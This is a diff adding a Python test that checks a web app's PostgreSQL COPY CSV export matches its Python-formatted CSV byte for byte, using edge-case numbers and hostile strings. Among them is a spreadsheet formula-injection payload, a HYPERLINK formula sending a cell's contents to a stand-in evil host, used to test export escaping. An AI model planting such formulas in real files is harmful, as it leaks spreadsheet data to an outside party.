@@ -6,6 +6,7 @@ import base64
 import csv
 import io
 import json
+import os
 from collections.abc import Callable
 from datetime import datetime
 from typing import TYPE_CHECKING, Any
@@ -337,3 +338,97 @@ async def test_the_largest_cursor_integers_are_still_cursors(
     assert response.status_code == 200, response.text
     rows = parse_csv(response)[1] if fmt == "csv" else response.json()["items"]
     assert all(row["period"] > "2025-Q4" for row in rows)
+
+
+HOSTILE_TEXTS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+1+1",
+    "@SUM(1+1)",
+    "-x",
+    "'quoted",
+    "\ttab first",
+    '保育定員を拡充、"待機児童"ゼロ,\n次期も継続',
+    "改行\r\nCRLF と \\ バックスラッシュ",
+    "\\.",
+    "a,b",
+    '"',
+    "末尾の改行\n",
+]
+NUMBERS_OF_NOTE = [
+    0.1,
+    1 / 3,
+    -5,
+    1234567890123456.7,
+    1e15,
+    1.5e15,
+    1e16,
+    2.5e16,
+    1.5e-05,
+    0.0001,
+    1e-300,
+    1e300,
+]
+
+
+@pytest.mark.skipif(not os.environ.get("WLBTRACK_TEST_DATABASE_URL"), reason="COPY runs on PostgreSQL only")
+@pytest.mark.parametrize("kind", ["values", "reports"])
+async def test_copy_csv_is_byte_identical_to_the_python_csv(
+    admin: httpx.AsyncClient, viewer: httpx.AsyncClient, monkeypatch: pytest.MonkeyPatch, kind: str
+) -> None:
+    """PostgreSQL's COPY writes the same bytes as the rows formatted in Python, for any filter and cursor."""
+    from wlbtrack.domain.progress import export as export_module
+
+    guidelines = ["1.1.1", "1.3.1", "2.2.1"]
+    for number, value in enumerate(NUMBERS_OF_NOTE):
+        text = HOSTILE_TEXTS[number % len(HOSTILE_TEXTS)]
+        body = {
+            "name": f"{text}（指標{number}）",
+            "unit": HOSTILE_TEXTS[-number % len(HOSTILE_TEXTS)][:50],
+            "baseline": [0, 100, -1e15, 1 / 7][number % 4],
+            "target": [100, 0, 1e15, 2 / 7][number % 4],
+            "department": "children" if number % 2 else "health-center",
+        }
+        guideline = guidelines[number % 3] if number % 2 else "1.1.1"
+        response = await admin.post(f"/api/v1/guidelines/{guideline}/indicators", json=body)
+        assert response.status_code == 201, response.text
+        identifier = response.json()["id"]
+        for period in ("2025-Q1", "2025-Q2"):
+            note = None if number % 3 == 0 else text
+            response = await admin.post(
+                f"/api/v1/indicators/{identifier}/values",
+                json={"period": period, "value": value, "note": note},
+            )
+            assert response.status_code == 201, response.text
+    for number, text in enumerate(HOSTILE_TEXTS):
+        body = {
+            "period": f"2025-Q{number % 4 + 1}",
+            "status": "on_track",
+            "summary": text,
+            "department": "health-center" if number < 4 and number % 2 else "children",
+        }
+        response = await admin.post(f"/api/v1/guidelines/{guidelines[number // 4]}/reports", json=body)
+        assert response.status_code == 201, response.text
+
+    cursor = (await viewer.get(f"/api/v1/export/{kind}", params={"limit": 3})).json()["next"]
+    queries: list[dict[str, Any]] = [
+        {},
+        {"department": "children"},
+        {"from": "2025-Q2", "campaign": "1"},
+        {"cursor": cursor},
+        {"cursor": cursor, "to": "2025-Q1", "department": "health-center"},
+        {"to": "2024-Q4"},
+    ]
+    for params in queries:
+        url, query = f"/api/v1/export/{kind}", {**params, "format": "csv"}
+        monkeypatch.setattr(export_module, "COPY_DIALECTS", ("postgresql",))
+        copied = await viewer.get(url, params=query)
+        monkeypatch.setattr(export_module, "COPY_DIALECTS", ())
+        formatted = await viewer.get(url, params=query)
+        assert copied.status_code == formatted.status_code == 200, copied.text
+        assert copied.content == formatted.content, params
+        assert copied.headers["content-type"] == formatted.headers["content-type"]
+    assert parse_csv(formatted)[1] == []  # the last query: nothing before 2025
+    everything = await viewer.get(f"/api/v1/export/{kind}", params={"format": "csv"})
+    assert len(parse_csv(everything)[1]) == (
+        2 * len(NUMBERS_OF_NOTE) if kind == "values" else len(HOSTILE_TEXTS)
+    )
